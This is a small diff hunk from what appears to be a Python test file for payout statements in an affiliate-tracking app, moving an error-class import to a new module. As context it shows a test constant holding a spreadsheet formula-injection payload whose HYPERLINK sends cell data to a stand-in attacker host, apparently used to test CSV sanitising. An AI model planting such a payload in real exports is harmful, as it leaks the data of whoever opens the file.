@@ -14,10 +14,10 @@ from brands.models import StaffRole
 from conversions.models import Payout
 from conversions.services import conversion_approve, payout_mark_paid, payouts_generate
 from conversions.statements import STATEMENT_COLUMNS, csv_safe, payout_statement
+from core.errors import NotFoundError
 from tests.conftest import client_with_key, issue_key, make_actor
 from tests.conversions.factories_flow import accepted_click, record
 from tests.factories import OfferFactory, PartnerFactory, StaffMembershipFactory
-from trcker_site.errors import NotFoundError
 
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
